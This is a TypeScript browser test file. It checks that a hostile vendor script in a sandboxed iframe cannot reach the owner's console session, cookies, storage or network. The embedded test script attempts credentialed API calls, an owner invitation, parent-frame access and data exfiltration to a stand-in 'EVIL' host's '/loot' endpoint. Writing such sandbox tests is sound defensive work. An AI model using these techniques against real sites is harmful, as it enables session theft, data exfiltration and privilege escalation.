import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { FaceProvider, SessionStart } from '../../../src/vendors/providers/provider.ts';
import { devices, launchBrowser, waitForStage } from '../../browser/browser.ts';
import { homeOf } from '../../browser/browser-visitor.ts';
import { type CheckFixture, createCheckFixture } from '../../kit/check-fixture.ts';
import { createConsoleVisitor } from '../../kit/console-visitor.ts';
import { createTestDatabase, type TestDatabase } from '../../kit/database.ts';

/**
 * A script that takes what it can reach and sends it along as its data. Each attempt says what came of it: `blocked`,
 * or what it got.
 */
const hostileScript = `
var take = async (attempt) => {
  try {
    const got = await Promise.race([attempt(), new Promise((end) => setTimeout(end, 1000, 'blocked'))]);
    return got === undefined || got === null ? 'blocked' : String(got);
  } catch { return 'blocked'; }
};
var ask = (method, path, body) => fetch(path, { method, body, credentials: 'include',
  headers: body ? { 'content-type': 'application/json' } : {} }).then((reply) => reply.status);
var attempts = {
  readTeam: () => ask('GET', '/console/api/platform/team/people'),
  invite: () => ask('POST', '/console/api/platform/team/invite', '{"role":"owner"}'),
  readWithoutCors: () => fetch('/console/api/platform/team/people', { mode: 'no-cors' }).then((r) => r.type),
  request: () => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.open('GET', '/console/api/session');
    request.onload = () => done(request.status);
    request.onerror = fail;
    request.send();
  }),
  beacon: () => { navigator.sendBeacon(EVIL + '/loot?beacon'); return null; },
  parentDocument: () => parent.document.title,
  parentAddress: () => parent.location.href,
  parentFunction: () => parent.eval('1'),
  parentStorage: () => parent.localStorage.length,
  topNavigation: () => { top.location.href = EVIL + '/loot?top'; return null; },
  topReplace: () => { top.location.replace(EVIL + '/loot?replace'); return null; },
  ownNavigation: () => {
    const link = document.createElement('a');
    link.href = EVIL + '/loot?link'; link.target = '_top';
    document.documentElement.append(link); link.click(); return null;
  },
  popup: () => window.open(EVIL + '/loot?popup'),
  consolePopup: () => window.open('/console'),
  cookies: () => document.cookie || null,
  ownStorage: () => localStorage.length || null,
  database: () => new Promise((done, fail) => {
    const open = indexedDB.open('x'); open.onsuccess = () => done('open'); open.onerror = fail;
  }),
  caches: () => caches.open('x'),
  worker: () => navigator.serviceWorker.register('/assets/check/x/check.ts'),
  frame: () => new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.src = '/console';
    frame.onload = () => { try { done(frame.contentDocument.title || null); } catch { done(null); } };
    document.documentElement.append(frame);
  }),
  form: () => {
    const form = document.createElement('form');
    form.method = 'post'; form.target = '_top'; form.action = '/console/api/platform/team/invite';
    document.documentElement.append(form); form.submit(); return null;
  },
  image: () => new Promise((done, fail) => {
    const image = new Image(); image.onload = () => done('loaded'); image.onerror = fail;
    image.src = EVIL + '/loot?image';
  }),
  evaluation: () => eval('"evaluated"'),
  inlineScript: () => {
    const script = document.createElement('script'); script.textContent = 'window.ran = "ran"';
    document.documentElement.append(script); return window.ran;
  },
  otherScript: () => new Promise((done, fail) => {
    const script = document.createElement('script'); script.src = EVIL + '/other.js';
    script.onload = () => done('loaded'); script.onerror = fail;
    document.documentElement.append(script);
  }),
  dialog: () => { alert('x'); return null; },
  address: () => /\\/v\\//.test(location.href + document.referrer) ? location.href : null,
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
};
window.collect = async () => {
  if (parent === self && location.pathname.startsWith('/vendor-script/')) return null;
  const got = {};
  for (const [name, attempt] of Object.entries(attempts)) got[name] = await take(attempt);
  got.origin = self.origin;
  setTimeout(() => { location.href = EVIL + '/loot?self'; });
  return got;
};
`;

/** Scripts by their path. All but the first send the page what it does not expect. */
const scripts: Readonly<Record<string, string>> = {
  '/evil.js': hostileScript,
  '/long.js': 'window.collect = () => "x".repeat(9000);',
  '/empty.js': 'window.collect = () => "";',
  '/object.js': 'parent.postMessage({ url: EVIL, length: 5 }, "*");',
  '/missing.js': '',
};

let database: TestDatabase;
let fixture: CheckFixture;
let browser: Browser;
let evil: Server;
let evilUrl: string;
/** What the attacker's server was asked for. */
const askedOfEvil: string[] = [];
const starts: SessionStart[] = [];

beforeAll(async () => {
  evil = createServer((request, response) => {
    askedOfEvil.push(request.url ?? '');
    response.setHeader('content-type', 'text/javascript');
    response.setHeader('access-control-allow-origin', '*');
    response.end(`const EVIL = ${JSON.stringify(evilUrl)};${scripts[request.url ?? '']}`);
  });
  await new Promise<void>((ready) => evil.listen(0, '127.0.0.1', ready));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  database = await createTestDatabase();
  fixture = await createCheckFixture(database.target, {
    extendRegistry: (registry) => {
      const sandbox = registry.face.get('sandbox');
      if (!sandbox) throw new Error('no sandbox');
      const hostile = Object.keys(scripts).map((path): FaceProvider => {
        return {
          ...sandbox,
          code: path.slice(1, -3),
          browserData: { script: evilUrl + path, call: 'collect' },
          startSession(start, context) {
            starts.push(start);
            return sandbox.startSession(start, context);
          },
        };
      });
      const added = hostile.map((each): [string, FaceProvider] => [each.code, each]);
      return { ...registry, face: new Map([...registry.face, ...added]) };
    },
  });
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await fixture?.close();
  await database?.drop();
  evil?.close();
});

async function countInvitations(): Promise<number> {
  const { rows } = await database.pool.query('select count(*)::int as n from invitations');
  return rows[0].n;
}

/** A browser in which the owner of the platform is signed in to the console. */
async function openOwnersBrowser() {
  const home = homeOf(fixture);
  const owner = createConsoleVisitor(fixture.app, home);
  await owner.arrive('owner');
  const context = await browser.newContext({ ...devices.phone, locale: 'en-US' });
  await context.addCookies(
    [...owner.cookies].map(([name, value]) => ({
      ...{ name, value, domain: 'localhost', path: '/', secure: true },
    })),
  );
  return { home, context };
}

/** Presses start on the page of a check by this provider. */
async function startCheck(page: Page, home: string, provider: string): Promise<void> {
  const { path, requestId } = await fixture.ask();
  await database.pool.query('update checks set provider_code = $2 where check_id = $1', [
    ...[requestId, provider],
  ]);
  await page.goto(home + path);
  await page.check('#agreed');
  await page.click('[data-action=agree]');
  await waitForStage(page, 'ready');
  await page.click('[data-action=start]');
}

test("a hostile script in the vendor's frame reaches nothing of the page, the console or the network", async () => {
  const { home, context } = await openOwnersBrowser();
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // The session is real: the page itself may read what the script may not.
  await page.goto(`${home}/console/api/session`);
  expect(await page.textContent('body')).toContain('owner');

  const invitations = await countInvitations();
  await startCheck(page, home, 'evil');
  await page.waitForURL('**/sandbox/face/**');

  const { origin, ...got } = JSON.parse(starts.at(-1)?.browserData ?? '{}');
  expect(origin).toBe('null');
  expect(Object.keys(got).length).toBeGreaterThan(20);
  expect(Object.entries(got).filter(([, what]) => what !== 'blocked')).toEqual([]);
  expect(askedOfEvil).toEqual(['/evil.js']);
  expect(dialogs).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  expect(await countInvitations()).toBe(invitations);
  await context.close();
});

test('a hostile script that is opened as a page of its own has no origin either', async () => {
  const { home, context } = await openOwnersBrowser();
  const page = await context.newPage();
  await page.goto(`${home}/vendor-script/evil`);
  expect(await page.evaluate('self.origin')).toBe('null');
  expect(
    await page.evaluate(`fetch('/console/api/session').then(() => 'read', () => 'blocked')`),
  ).toBe('blocked');
  await context.close();
});

test.each(['long', 'empty', 'object', 'missing'])(
  'data that is %s is rejected, and starts no session',
  async (provider) => {
    const page = await browser.newPage({ ...devices.phone, locale: 'en-US' });
    const before = starts.length;
    await startCheck(page, fixture.url, provider);
    await page.waitForSelector('#script-problem:has-text("could not be loaded")');
    expect(starts.length).toBe(before);
    expect(await page.locator('iframe').count()).toBe(0);
    await page.close();
  },
);
